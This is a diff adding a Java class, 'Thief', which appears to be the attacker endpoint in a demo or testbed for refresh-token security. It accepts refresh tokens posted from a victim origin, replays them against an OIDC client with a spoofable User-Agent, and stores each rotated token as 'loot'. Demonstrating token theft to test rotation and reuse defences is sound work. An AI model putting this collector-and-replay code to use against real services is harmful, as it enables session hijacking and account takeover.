@@ -1,0 +1,81 @@
+package dev.tokenguard.demo.thief;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import dev.tokenguard.demo.web.Reply;
+import dev.tokenguard.demo.web.Request;
+import dev.tokenguard.demo.web.Route;
+import dev.tokenguard.testbed.Answer;
+import dev.tokenguard.testbed.Jwt;
+import dev.tokenguard.testbed.OidcClient;
+import java.net.URI;
+import java.util.LinkedHashMap;
+import java.util.Map;
+import java.util.concurrent.ConcurrentHashMap;
+import java.util.function.Function;
+
+/** Keeps the newest token of each loot, and tells what became of it, never the token. */
+final class Thief implements Route {
+
+  private static final String OWN_USER_AGENT = "thief/1.0";
+
+  private final Function<String, OidcClient> clients;
+  private final URI victims;
+  private final Map<String, String> loot = new ConcurrentHashMap<>();
+
+  /**
+   * @param clients the public endpoints, as a client by its id
+   * @param victims the origin whose pages may hand something in
+   */
+  Thief(Function<String, OidcClient> clients, URI victims) {
+    this.clients = clients;
+    this.victims = victims;
+  }
+
+  /** A form: {@code refresh_token} or a {@code family} that was looted before. */
+  @Override
+  public Reply answer(Request request) {
+    if (!request.method().equals("POST")
+        || request.origin().filter(victims.toString()::equals).isEmpty()) {
+      return Reply.of(403);
+    }
+    String token = request.fields().getOrDefault("refresh_token", lootOf(request));
+    Reply reply = token.isEmpty() ? Reply.of(404) : use(token, request);
+    return reply.with("Access-Control-Allow-Origin", victims.toString());
+  }
+
+  private String lootOf(Request request) {
+    return loot.getOrDefault(request.field("family"), "");
+  }
+
+  private Reply use(String token, Request request) {
+    String userAgent = request.fields().getOrDefault("user_agent", OWN_USER_AGENT);
+    Answer answer =
+        clients
+            .apply(request.field("client_id"))
+            .withHeader("User-Agent", userAgent)
+            .refresh(token);
+    Map<String, Object> told = new LinkedHashMap<>();
+    told.put("status", answer.status());
+    told.put("used", place(token));
+    if (answer.isOk()) {
+      String next = answer.refreshToken();
+      loot.put(String.valueOf(place(next).get("family")), next);
+      told.put("got", place(next));
+    } else {
+      told.put("error", answer.error());
+    }
+    return Reply.json(200, told);
+  }
+
+  private static Map<String, Object> place(String refreshToken) {
+    JsonNode claims = Jwt.claims(refreshToken);
+    String id = claims.path("jti").asText();
+    return Map.of(
+        "family",
+        claims.path("rtf").asText(id),
+        "generation",
+        claims.path("rtg").asLong(0),
+        "jti",
+        id);
+  }
+}
